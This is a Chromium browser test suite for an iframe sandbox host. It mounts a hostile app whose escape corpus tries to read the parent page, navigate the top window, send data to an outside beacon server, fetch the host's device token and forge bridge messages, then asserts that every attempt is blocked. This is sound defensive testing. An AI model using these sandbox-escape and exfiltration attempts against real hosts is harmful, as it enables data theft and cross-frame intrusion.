/**
 * RELIABILITY B1–B3 in real Chromium, through the real surface host (`mountSurface`) on a page under
 * the host's strict CSP, the way surface-host.browser.test.ts builds it:
 * - B1: no surface frame ever carries `allow-same-origin`; the host cannot read the frame and the app
 *   cannot read `parent.document` (SecurityError).
 * - B2: a hostile app runs an escape corpus (top navigation, popups, forms, fetch/XHR/WebSocket/image/
 *   beacon requests, remote script and style, storage, nested frames, `parent.postMessage` spoofing);
 *   everything is blocked and recorded by the app, and no request reaches a local test server.
 * - B3: valid-looking bridge frames from the top window, from another app's frame, from a nested frame
 *   and from the frame after it navigated away and back are never accepted: the host's handler sees only
 *   what came through the instance's own port with its nonce.
 */
import { mkdirSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join, resolve } from "node:path";
import { build } from "esbuild";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CHROMIUM_ARGS, launchChromium } from "../../../test/support/chromium.js";
import { testSnapshot } from "../../../test/support/bridge-snapshot.js";
import { SCREENSHOTS } from "./support.js";

const HOST_CSP = "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; frame-src 'self'; object-src 'none'; base-uri 'none'";

/** The first frame the host sends (a BridgeHostSnapshot; it crosses into the page as plain JSON). */
const snapshot = (appScope: string, instanceId: string) => testSnapshot({ app_scope: appScope, instance_id: instanceId });

/** Shared by the apps below: keep the port and nonce the host hands over once, and build frames. */
const APP_PRELUDE = `
let port, nonce;
const frame = (o) => Object.assign({ bridge: "lineup.surface", v: 1, nonce }, o);
const forged = (n, height, marker) => [
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7001, method: "lifecycle.ready", params: {} },
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7002, method: "surface.resize", params: { height } },
  { bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: 7003, method: "session_data.replace", params: { expected_revision: 0, data: { forged: marker } } },
];
const show = (text) => { const p = document.createElement("pre"); p.textContent = text; p.style.cssText = "margin:4px;font:11px monospace;white-space:pre-wrap"; document.body.append(p); };
function onHandover(fn) {
  window.addEventListener("message", function first(e) {
    if (e.source !== window.parent || e.ports.length !== 1) return;
    window.removeEventListener("message", first);
    port = e.ports[0]; nonce = e.data.nonce; port.onmessage = () => {};
    fn();
  });
}`;

/** B3's victim: proves its own port works (resize 222), and says ready only when its parent asks. */
const VICTIM_APP = `<!doctype html><html><body><h3>victim</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 222 } }));
  window.addEventListener("message", (e) => {
    if (e.source !== window.parent || !e.data || e.data.type !== "test.go") return;
    port.postMessage(frame({ kind: "request", id: 2, method: "lifecycle.ready", params: {} }));
    show("sent lifecycle.ready on its own port");
  });
  show("handed over; waiting for the parent's go");
});
</script></body></html>`;

/** B3's other app: given the victim's nonce, forges its frames every way an app in a frame can. */
const OTHER_APP = `<!doctype html><html><body><h3>other app</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 333 } }));
  const seen = { nestedRan: false };
  window.addEventListener("message", (e) => {
    if (e.data && e.data.type === "nested.ran") seen.nestedRan = true;
    if (e.source !== window.parent || !e.data || e.data.type !== "test.spoof") return;
    const victim = e.data.nonce;
    for (const f of forged(victim, 444, "other-app")) {
      parent.postMessage(f, "*");
      top.postMessage(f, "*");
      const ch = new MessageChannel();
      parent.postMessage(f, "*", [ch.port2]);
      ch.port1.postMessage(f);
      for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage(f, "*");
      port.postMessage(f); // its own port, someone else's nonce
    }
    parent.postMessage({ type: "lineup.surface-frame.loaded" }, "*");
    // A nested frame (inherits the sandbox and the CSP) forges them too.
    const nested = document.createElement("iframe");
    nested.srcdoc = "<script>const f = " + JSON.stringify(forged(victim, 555, "nested")) + ";" +
      "for (const x of f) { top.postMessage(x, '*'); parent.parent.postMessage(x, '*'); }" +
      "parent.parent.postMessage({ type: 'lineup.surface-frame.loaded' }, '*');" +
      "parent.postMessage({ type: 'nested.ran' }, '*');<\\/script>";
    document.body.append(nested);
    setTimeout(() => {
      port.postMessage(frame({ kind: "request", id: 2, method: "session_data.replace", params: { expected_revision: 0, data: { nestedRan: seen.nestedRan } } }));
      show("forged the victim's frames; nested frame ran: " + seen.nestedRan);
    }, 800);
  });
});
</script></body></html>`;

/** B3's navigating app: proves its port once (resize 150), then navigates its frame away and back. */
const NAV_APP = `<!doctype html><html><body><h3>navigates</h3><script>${APP_PRELUDE}
onHandover(() => {
  port.postMessage(frame({ kind: "request", id: 1, method: "surface.resize", params: { height: 150 } }));
  setTimeout(() => { location.href = "/attacker.html#" + nonce; }, 100);
});
</script></body></html>`;

/** Where NAV_APP's frame goes: forges frames with the old nonce, asks for a new handover, and goes back. */
const ATTACKER_PAGE = `<!doctype html><html><body><script>
const n = location.hash.slice(1);
const f = ${"[" + ["lifecycle.ready", "surface.resize", "session_data.replace"].map((m, i) => `{ bridge: "lineup.surface", v: 1, nonce: n, kind: "request", id: ${8001 + i}, method: "${m}", params: ${m === "surface.resize" ? "{ height: 666 }" : m === "session_data.replace" ? '{ expected_revision: 0, data: { forged: "navigated" } }' : "{}"} }`).join(", ") + "]"};
let got = 0;
// What a new handover would look like: anything from the host page, or any port (sibling apps' posts don't count).
window.addEventListener("message", (e) => { if (e.source === parent || e.ports.length > 0) got++; });
for (const x of f) { parent.postMessage(x, "*"); top.postMessage(x, "*"); }
parent.postMessage({ type: "lineup.surface-frame.ready" }, "*");
parent.postMessage({ type: "lineup.surface-frame.loaded" }, "*");
setTimeout(() => { location.href = "/surface-frame.html?back=1&got=" + got; }, 600);
</script></body></html>`;

/** B1/B2: the escape corpus. Every attempt's outcome is recorded and sent through the app's own port. */
const hostileApp = (beacon: string, same: string): string => `<!doctype html><html><body><h3>hostile app: escape corpus</h3><script>${APP_PRELUDE}
const B = ${JSON.stringify(beacon)}, SAME = ${JSON.stringify(same)};
const report = {}; const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
const attempt = (name, fn) => { try { const v = fn(); report[name] = v === undefined ? "no error" : String(v); } catch (e) { report[name] = "threw " + e.name; } };
const outcome = (name, run, ms = 1500) => new Promise((done) => {
  const finish = (v) => { if (!(name in report)) report[name] = v; done(); };
  setTimeout(() => finish("no outcome"), ms);
  try { run(finish); } catch (e) { finish("threw " + e.name); }
});
const element = (name, tag, attrs) => outcome(name, (finish) => {
  const el = document.createElement(tag); Object.assign(el, attrs);
  el.onload = () => finish("LOADED"); el.onerror = () => finish("error event");
  document.head.append(el);
});
onHandover(async () => {
  attempt("parent.document", () => parent.document.title);
  attempt("top.document", () => top.document.title);
  attempt("parent.location.href", () => parent.location.href);
  attempt("frameElement", () => String(window.frameElement));
  attempt("top navigation", () => { top.location.href = B + "/nav"; });
  attempt("top navigation (same origin)", () => { top.location.assign(SAME + "/beacon/nav"); });
  attempt("window.open", () => String(window.open(B + "/popup")));
  attempt("form submit", () => {
    const f = document.createElement("form"); f.action = B + "/form"; f.method = "post"; f.target = "_top"; f.hidden = true;
    const i = document.createElement("input"); i.name = "x"; i.value = "secret"; f.append(i); document.body.append(f);
    f.submit(); return "called";
  });
  attempt("form requestSubmit", () => {
    const f = document.createElement("form"); f.action = SAME + "/beacon/form"; f.method = "get"; f.hidden = true;
    document.body.append(f); f.requestSubmit(); return "called";
  });
  attempt("sendBeacon", () => navigator.sendBeacon(B + "/sendbeacon", "x"));
  attempt("localStorage", () => { localStorage.setItem("k", "v"); return "WROTE"; });
  attempt("sessionStorage", () => { sessionStorage.setItem("k", "v"); return "WROTE"; });
  attempt("document.cookie", () => { document.cookie = "k=v"; return "cookie:" + document.cookie; });
  attempt("indexedDB", () => { indexedDB.open("x"); return "OPENED"; });
  // A bridge frame with its own nonce, but through the window instead of its port.
  const spoof = frame({ kind: "request", id: 50, method: "session_data.replace", params: { expected_revision: 0, data: { forged: "window" } } });
  attempt("parent.postMessage spoof", () => { parent.postMessage(spoof, "*"); const ch = new MessageChannel(); parent.postMessage(spoof, "*", [ch.port2]); ch.port1.postMessage(spoof); top.postMessage(spoof, "*"); return "posted"; });
  await Promise.all([
    outcome("fetch", (finish) => fetch(B + "/fetch").then(() => finish("RESOLVED"), (e) => finish("rejected " + e.name))),
    outcome("fetch the host's token", (finish) => fetch(SAME + "/lineup-config.json").then((r) => r.text()).then((t) => finish("READ " + t), (e) => finish("rejected " + e.name))),
    outcome("XMLHttpRequest", (finish) => { const x = new XMLHttpRequest(); x.open("GET", B + "/xhr"); x.onload = () => finish("LOADED"); x.onerror = () => finish("error event"); x.send(); }),
    outcome("WebSocket", (finish) => { const ws = new WebSocket(B.replace("http:", "ws:") + "/ws"); ws.onopen = () => finish("OPEN"); ws.onerror = () => finish("error event"); }),
    element("image beacon", "img", { src: B + "/img.png" }),
    element("remote script", "script", { src: B + "/remote.js" }),
    element("remote stylesheet", "link", { rel: "stylesheet", href: B + "/remote.css" }),
    // Device capabilities straight from the browser, around the Capability Gateway.
    outcome("clipboard.writeText", (finish) => navigator.clipboard.writeText("x").then(() => finish("WROTE"), (e) => finish("rejected " + e.name))),
    outcome("getUserMedia", (finish) => navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ audio: true }).then(() => finish("GRANTED"), (e) => finish("rejected " + e.name)) : finish("no mediaDevices")),
    outcome("geolocation", (finish) => navigator.geolocation.getCurrentPosition(() => finish("GRANTED"), (e) => finish("error " + e.code))),
    outcome("Notification", (finish) => typeof Notification === "undefined" ? finish("no Notification") : Notification.requestPermission().then((p) => finish(p), (e) => finish("rejected " + e.name))),
    outcome("new Notification", (finish) => { const n = new Notification("from the sandbox"); n.onshow = () => finish("SHOWN"); n.onerror = () => finish("error event"); }),
    outcome("nested iframe (remote)", (finish) => { const f = document.createElement("iframe"); f.src = B + "/frame"; f.style.cssText = "width:120px;height:60px"; document.body.append(f); setTimeout(() => finish("appended"), 700); }),
  ]);
  report["remote script ran"] = String(window.__remoteRan === true);
  port.postMessage(frame({ kind: "request", id: 2, method: "session_data.replace", params: { expected_revision: 0, data: { report, violations } } }));
  show(Object.entries(report).map(([k, v]) => k.padEnd(28) + v).join("\\n") + "\\nCSP violations: " + violations.join(", "));
});
</script></body></html>`;

interface SurfaceState {
  calls: { method: string; params: unknown }[];
  refused: string[];
  resizes: number[];
  ready: boolean;
  sandbox: string | null;
  hostCanReadFrame: boolean;
}

let browser: Browser;
let context: BrowserContext;
let page: Page;
let pageServer: Server;
let beaconServer: Server;
let pageUrl: string;
let beaconUrl: string;
const pageHits: string[] = [];
const beaconHits: string[] = [];
const popups: string[] = [];
const pageErrors: string[] = [];
const consoleLines: string[] = [];

const call = <T>(fn: string, ...args: unknown[]): Promise<T> =>
  page.evaluate(([name, a]) => (window as unknown as { __escape: Record<string, (...x: unknown[]) => unknown> }).__escape[name as string]!(...(a as unknown[])), [fn, args] as const) as Promise<T>;
const state = (id: string): Promise<SurfaceState> => call<SurfaceState>("state", id);
const record = (hits: string[]) => (req: IncomingMessage) => hits.push(`${req.method ?? "?"} ${req.url ?? "/"}`);
/** Requests the page server saw that were not part of loading the page and its frames. */
const unexpectedPageHits = (): string[] => pageHits.filter((hit) => !/^GET \/(|harness\.js|surface-frame\.html(\?back=1&got=\d+)?|attacker\.html|favicon\.ico)$/.test(hit));

beforeAll(async () => {
  const harness = (
    await build({ entryPoints: [resolve(import.meta.dirname, "sandbox-escape.entry.ts")], bundle: true, write: false, format: "esm", platform: "browser", target: "es2022", conditions: ["source"] })
  ).outputFiles[0]!.text;
  const frameHtml = await readFile(resolve(import.meta.dirname, "../public/surface-frame.html"), "utf8");
  beaconServer = createServer((req, res) => {
    record(beaconHits)(req);
    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" }).end("window.__remoteRan = true;");
  });
  beaconServer.on("upgrade", (req, socket) => {
    record(beaconHits)(req);
    socket.destroy();
  });
  pageServer = createServer((req, res) => {
    record(pageHits)(req);
    const path = (req.url ?? "/").split("?")[0];
    if (path === "/harness.js") return void res.writeHead(200, { "content-type": "text/javascript" }).end(harness);
    if (path === "/surface-frame.html") return void res.writeHead(200, { "content-type": "text/html" }).end(frameHtml);
    if (path === "/attacker.html") return void res.writeHead(200, { "content-type": "text/html" }).end(ATTACKER_PAGE);
    if (path === "/lineup-config.json") return void res.writeHead(200, { "content-type": "application/json" }).end('{"device_token":"secret"}');
    if (path !== "/") return void res.writeHead(404).end();
    res.writeHead(200, { "content-type": "text/html", "content-security-policy": HOST_CSP });
    res.end('<!doctype html><html><head><meta charset="utf-8"><title>LineUp host</title></head><body style="margin:0;font:13px sans-serif"><script type="module" src="/harness.js"></script></body></html>');
  });
  await new Promise<void>((r) => pageServer.listen(0, "127.0.0.1", r));
  await new Promise<void>((r) => beaconServer.listen(0, "127.0.0.1", r));
  pageUrl = `http://127.0.0.1:${(pageServer.address() as AddressInfo).port}/`;
  beaconUrl = `http://127.0.0.1:${(beaconServer.address() as AddressInfo).port}`;
  // A fake microphone that is always allowed, and every permission granted to the host's own origin: the
  // sandboxed apps must still be refused, since only the Capability Gateway may use them for an app.
  browser = await launchChromium({ args: [...CHROMIUM_ARGS, "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"] });
  context = await browser.newContext({ viewport: { width: 900, height: 1000 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write", "geolocation", "microphone", "notifications"], { origin: pageUrl.slice(0, -1) });
  context.on("page", (p) => popups.push(p.url()));
  page = await context.newPage();
  popups.length = 0;
  page.on("pageerror", (e) => pageErrors.push(e.message));
  page.on("console", (m) => consoleLines.push(m.text()));
  await page.goto(pageUrl);
  await page.waitForFunction(() => "__escape" in window);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((r) => (pageServer ? pageServer.close(() => r()) : r()));
  await new Promise<void>((r) => (beaconServer ? beaconServer.close(() => r()) : r()));
});

describe("RELIABILITY B2: escape corpus (Chromium, host CSP)", () => {
  it("a hostile app's every escape is blocked and recorded, and no request leaves the page", async () => {
    await call("mount", "hostile", hostileApp(beaconUrl, pageUrl.slice(0, -1)), snapshot("hostile", "hostile-1"), 640);
    await expect.poll(async () => (await state("hostile")).calls.length, { timeout: 15_000 }).toBeGreaterThan(0);
    // Let anything that was going to leak late (a navigation, a popup, a beacon) happen.
    await page.waitForTimeout(500);
    const hostile = await state("hostile");
    // The control: the host's own origin may show a notification in this browser.
    expect(await page.evaluate(() => new Promise((r) => { const n = new Notification("host"); n.onshow = () => r("SHOWN"); n.onerror = () => r("error event"); }))).toBe("SHOWN");
    // Only the app's own report through its own port reached the handler: the window spoofs did not.
    expect(hostile.calls.map((c) => c.method)).toEqual(["session_data.replace"]);
    const { report, violations } = (hostile.calls[0]!.params as { data: { report: Record<string, string>; violations: string[] } }).data;
    expect(report).toEqual({
      "parent.document": "threw SecurityError",
      "top.document": "threw SecurityError",
      "parent.location.href": "threw SecurityError",
      frameElement: "null",
      "top navigation": expect.not.stringMatching(/^no error$/) as unknown as string,
      "top navigation (same origin)": expect.not.stringMatching(/^no error$/) as unknown as string,
      "window.open": "null",
      // The calls return; Chromium blocks the submission (sandbox without allow-forms), the app lives on.
      "form submit": "called",
      "form requestSubmit": "called",
      // sendBeacon only queues (true); the frame's connect-src refuses the request itself, and no hit arrives.
      sendBeacon: "true",
      localStorage: "threw SecurityError",
      sessionStorage: "threw SecurityError",
      "document.cookie": "threw SecurityError",
      indexedDB: "threw SecurityError",
      "parent.postMessage spoof": "posted",
      fetch: "rejected TypeError",
      "fetch the host's token": "rejected TypeError",
      XMLHttpRequest: "error event",
      WebSocket: "error event",
      "image beacon": "error event",
      "remote script": "error event",
      "remote stylesheet": "error event",
      "clipboard.writeText": "rejected NotAllowedError",
      getUserMedia: "rejected SecurityError",
      geolocation: "error 1", // PERMISSION_DENIED
      // Chromium answers the host origin's permission state to the frame, but will not show its notification.
      Notification: "granted",
      "new Notification": "error event",
      "nested iframe (remote)": "appended",
      "remote script ran": "false",
    });
    // The frame's CSP recorded each blocked load.
    for (const directive of ["connect-src", "img-src", "script-src-elem", "style-src-elem", "frame-src"]) expect(violations).toContain(directive);
    // Nothing reached either server; the page did not move and no page opened.
    expect(beaconHits).toEqual([]);
    expect(unexpectedPageHits()).toEqual([]);
    expect(page.url()).toBe(pageUrl);
    expect(popups).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(await page.title()).toBe("LineUp host");
    expect(hostile.refused).toEqual([]);
    // Chromium says why the forms went nowhere.
    expect(consoleLines.filter((line) => /Blocked form submission/.test(line) && /allow-forms/.test(line))).toHaveLength(2);
  });
});

describe("RELIABILITY B1: sandbox conformance (Chromium)", () => {
  it("no surface frame ever carries allow-same-origin; the host cannot read the frame, nor the app the host", async () => {
    const hostile = await state("hostile");
    expect(hostile.sandbox).toBe("allow-scripts");
    expect(hostile.hostCanReadFrame).toBe(false);
    const report = (hostile.calls[0]!.params as { data: { report: Record<string, string> } }).data.report;
    expect(report["parent.document"]).toBe("threw SecurityError");
  });
});

describe("RELIABILITY B3: caller authentication (Chromium)", () => {
  it("mounts a victim that uses only its own port, and another app and a navigating app beside it", async () => {
    await call("mount", "victim", VICTIM_APP, snapshot("victim", "victim-1"));
    await call("mount", "other", OTHER_APP, snapshot("other", "other-1"));
    await call("mount", "nav", NAV_APP, snapshot("nav", "nav-1"));
    // The control: each app's own port with its nonce works.
    await expect.poll(async () => (await state("victim")).resizes, { timeout: 10_000 }).toEqual([222]);
    await expect.poll(async () => (await state("other")).resizes, { timeout: 10_000 }).toEqual([333]);
    await expect.poll(async () => (await state("nav")).resizes, { timeout: 10_000 }).toEqual([150]);
  });

  it("frames forged from the top window with the victim's real nonce are never accepted", async () => {
    await call("forgeFromTop", "victim", 777);
    await page.waitForTimeout(300);
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("frames forged by another app's frame and by a frame nested in it are never accepted", async () => {
    const victimNonce = await call<string>("nonce", "victim");
    await call("tellApp", "other", { type: "test.spoof", nonce: victimNonce });
    await expect.poll(async () => (await state("other")).calls.length, { timeout: 10_000 }).toBe(1);
    const other = await state("other");
    // The nested frame did run (so its forgeries were really sent).
    expect(other.calls).toEqual([{ method: "session_data.replace", params: { expected_revision: 0, data: { nestedRan: true } } }]);
    // Through its own port, the victim's nonce is refused as a bad nonce.
    expect(other.refused.filter((code) => code === "bridge_bad_nonce")).toHaveLength(3);
    expect(other.resizes).toEqual([333]);
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("a frame that navigated away and back gets no new port, and its forgeries are never accepted", async () => {
    await expect.poll(() => pageHits.find((hit) => hit.startsWith("GET /surface-frame.html?back=1")), { timeout: 10_000 }).toBeDefined();
    await page.waitForTimeout(300);
    // The attacker page in the frame received nothing: no snapshot, no port, no app HTML.
    expect(pageHits.filter((hit) => hit.startsWith("GET /surface-frame.html?back=1"))).toEqual(["GET /surface-frame.html?back=1&got=0"]);
    const nav = await state("nav");
    expect(nav).toMatchObject({ calls: [], resizes: [150], ready: false, refused: [] });
    const victim = await state("victim");
    expect(victim).toMatchObject({ calls: [], resizes: [222], ready: false, refused: [] });
  });

  it("only the instance's own port with its nonce counts: the victim's real ready is accepted", async () => {
    await call("tellApp", "victim", { type: "test.go" });
    await expect.poll(async () => (await state("victim")).ready, { timeout: 5_000 }).toBe(true);
    expect((await state("victim")).calls).toEqual([]);
    // The top page itself never acted on any forged frame either.
    expect(page.url()).toBe(pageUrl);
    expect(beaconHits).toEqual([]);
    expect(unexpectedPageHits()).toEqual([]);
  });

  it("every frame the page ever had was sandboxed allow-scripts only (B1), and the page saw no errors", async () => {
    const seen = await call<string[]>("sandboxSeen");
    expect(seen.length).toBeGreaterThanOrEqual(4);
    for (const value of seen) expect(value).toBe("allow-scripts");
    expect(await call<string[]>("sandboxTokens")).toEqual(["allow-scripts", "allow-scripts", "allow-scripts", "allow-scripts"]);
    expect(pageErrors).toEqual([]);
    mkdirSync(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: join(SCREENSHOTS, "20-sandbox-escape.png"), fullPage: true });
  });
});
